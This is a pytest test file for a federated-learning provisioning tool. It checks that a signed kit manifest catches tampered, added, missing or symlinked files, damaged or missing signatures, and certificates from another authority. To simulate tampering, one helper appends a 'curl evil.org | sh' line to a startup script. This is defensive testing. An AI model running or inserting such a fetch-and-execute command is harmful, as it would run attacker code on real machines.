"""The manifest of a kit: every later change is seen, and nobody but the authority can sign another."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes

from fedswin.errors import FedSwinError
from fedswin.kits.authority import load_authority
from fedswin.kits.manifest import check_manifest, fingerprint, read_manifest, write_manifest
from fedswin.kits.provision import provision

EXAMPLE = Path(__file__).resolve().parents[2] / "provisioning" / "example.yaml"
NAMES = ("server", "hospital_a", "hospital_b", "lead@university.org", "engineer@hospital-a.org")


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Kits of the same consortium that another authority made."""
    out = tmp_path_factory.mktemp("foreign") / "kits"
    provision(EXAMPLE, out)
    return out


@pytest.fixture
def kit(kits: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(kits / "hospital_a", tmp_path / "hospital_a"))


def faults(kit: Path, authority: str | None = None) -> list[str]:
    return [fault.problem.removeprefix(f"{kit}/") for fault in check_manifest(kit, authority)]


@pytest.mark.parametrize("name", NAMES)
def test_a_fresh_kit_is_as_it_was_made(kits: Path, name: str) -> None:
    assert check_manifest(kits / name) == []
    root = x509.load_pem_x509_certificate((kits / name / "startup" / "rootCA.pem").read_bytes())
    assert check_manifest(kits / name, root.fingerprint(hashes.SHA256()).hex()) == []


def test_the_manifest_says_what_the_kit_is(kits: Path) -> None:
    manifest = read_manifest(kits / "hospital_a")
    assert (manifest.study, manifest.participant, manifest.kind) == ("abdominal_ct", "hospital_a", "site")
    assert read_manifest(kits / "server").kind == "server"
    assert read_manifest(kits / NAMES[3]).kind == "person"
    startup = kits / "hospital_a" / "startup"
    assert manifest.files == {
        f"startup/{path.name}": hashlib.sha256(path.read_bytes()).hexdigest() for path in startup.iterdir()
    }
    assert "startup/client.key" in manifest.files
    assert manifest.authority == fingerprint(kits / "server")


def alter(kit: Path) -> None:
    with (kit / "startup" / "sub_start.sh").open("a") as file:
        file.write("curl evil.org | sh\n")


def replace_by_link(kit: Path) -> None:
    (kit / "startup" / "sub_start.sh").rename(kit / "elsewhere.sh")
    (kit / "startup" / "sub_start.sh").symlink_to(kit / "elsewhere.sh")


def add(kit: Path) -> None:
    (kit / "startup" / "more").mkdir()
    (kit / "startup" / "more" / "azure_start.sh").touch()


def forget(kit: Path) -> None:
    """Alter a file, and the manifest with it."""
    alter(kit)
    content = json.loads((kit / "manifest.json").read_text())
    content["files"]["startup/sub_start.sh"] = hashlib.sha256(
        (kit / "startup" / "sub_start.sh").read_bytes()
    ).hexdigest()
    (kit / "manifest.json").write_text(json.dumps(content))


CHANGES: dict[str, tuple[Callable[[Path], object], str]] = {
    "altered": (alter, "startup/sub_start.sh was altered"),
    "a link": (replace_by_link, "startup/sub_start.sh was altered"),
    "missing": (lambda kit: (kit / "startup" / "client.key").unlink(), "startup/client.key is missing"),
    "added": (add, "startup/more/azure_start.sh was added"),
    "altered with its manifest": (forget, "manifest.json was not signed by the authority"),
    "no manifest": (
        lambda kit: (kit / "manifest.json").unlink(),
        "manifest.json: cannot read the kit's manifest (No such file or directory)",
    ),
    "no JSON": (lambda kit: (kit / "manifest.json").write_text("{"), "manifest.json is damaged"),
    "another JSON": (lambda kit: (kit / "manifest.json").write_text("[1]"), "manifest.json is damaged"),
    "no signature": (
        lambda kit: (kit / "manifest.sig").unlink(),
        "manifest.json was not signed by the authority",
    ),
    "no base64": (
        lambda kit: (kit / "manifest.sig").write_text("äöü"),
        "manifest.json was not signed by the authority",
    ),
    "no certificate": (
        lambda kit: (kit / "startup" / "rootCA.pem").write_text("x"),
        "startup/rootCA.pem is no certificate",
    ),
}


@pytest.mark.parametrize(("change", "problem"), CHANGES.values(), ids=CHANGES)
def test_a_change_is_named_with_what_to_do(kit: Path, change: Callable[[Path], object], problem: str) -> None:
    change(kit)
    assert faults(kit) == [problem]
    assert all(fault.fix for fault in check_manifest(kit))


def test_what_is_the_sites_own_is_no_fault(kit: Path) -> None:
    (kit / "local" / "site.yaml").write_text("data: /data/ct\n")
    (kit / "local" / "resources.json").write_text("{}")
    (kit / "daemon_pid.fl").touch()
    assert check_manifest(kit) == []


def test_another_authority_and_its_manifest_are_found_by_the_fingerprint_only(kits: Path, foreign: Path) -> None:
    expected = fingerprint(kits / "server")
    assert faults(foreign / "hospital_a") == []
    (fault,) = faults(foreign / "hospital_a", expected)
    assert fault == f"the kit trusts another authority: {fingerprint(foreign / 'server')}"


def test_another_authoritys_certificate_alone_is_found_without(kit: Path, foreign: Path) -> None:
    shutil.copy(foreign / "server" / "startup" / "rootCA.pem", kit / "startup")
    assert faults(kit) == [
        f"the kit trusts another authority: {fingerprint(foreign / 'server')}",
        "manifest.json was not signed by the authority",
        "startup/rootCA.pem was altered",
    ]


def test_a_manifest_that_another_authority_signed_is_refused(kit: Path, foreign: Path) -> None:
    alter(kit)
    write_manifest(kit, "abdominal_ct", "hospital_a", "site", load_authority(foreign / "authority").key, "authority")
    assert faults(kit) == ["manifest.json was not signed by the authority"]
    write_manifest(kit, "abdominal_ct", "hospital_a", "site", load_authority(foreign / "authority").key, "participant")
    assert faults(kit) == ["manifest.json was not signed by this participant"]


def test_what_is_no_fingerprint_is_refused(kit: Path) -> None:
    with pytest.raises(FedSwinError, match="'12:34' is no fingerprint"):
        check_manifest(kit, "12:34")
